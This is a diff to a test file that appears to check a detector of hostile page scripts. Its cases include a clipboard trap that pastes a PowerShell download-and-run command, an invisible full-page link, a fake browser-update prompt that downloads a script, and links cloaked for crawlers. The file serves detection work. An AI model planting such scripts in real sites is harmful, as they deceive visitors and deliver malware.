@@ -26,6 +26,26 @@ const cases: Record<string, [string, string[]]> = {
     `document.querySelector('button').onclick = function () { navigator.clipboard.writeText('powershell -c "irm https://x.example/install.ps1 | iex"') }`,
     [],
   ],
+  'a link that lies unseen over the page': [
+    `var a = document.createElement('a'); a.href = 'https://x.example/'; a.style.cssText = 'position:fixed;inset:0;opacity:0;z-index:99999'; document.body.appendChild(a)`,
+    ['high page-covered'],
+  ],
+  'a banner that is a link': [
+    `var a = document.createElement('a'); a.href = 'https://x.example/'; a.style.cssText = 'position:fixed;bottom:0;left:0;right:0;height:60px;opacity:1'; document.body.appendChild(a)`,
+    [],
+  ],
+  'a program offered as an update of the browser': [
+    `var o = document.createElement('div'); o.innerHTML = '<p>Update your browser now</p><button id="go">Update</button>'; document.body.appendChild(o); document.getElementById('go').onclick = function () { var a = document.createElement('a'); a.href = 'https://x.example/d?b=1'; a.download = 'Browser.Update.js'; document.body.appendChild(a) }`,
+    ['high page-covered'],
+  ],
+  'a hint to the makers of browsers': [
+    `var o = document.createElement('div'); o.innerHTML = '<p>Your browser is outdated. <a href="https://browsers.example/new/">Update it</a></p>'; document.body.appendChild(o)`,
+    [],
+  ],
+  'links that only crawlers get': [
+    `if (/googlebot|bingbot/i.test(navigator.userAgent)) { var d = document.createElement('div'); d.style.cssText = 'position:absolute;left:-9999px'; d.innerHTML = '<a href="https://x.example/">x</a>'; document.body.appendChild(d) }`,
+    ['medium hidden-content-written'],
+  ],
   'phones sent to pages for phones': [toPhones('https://m.site.example/'), ['low visitor-sent-away']],
   'phones sent elsewhere': [
     toPhones('https://other.example/'),
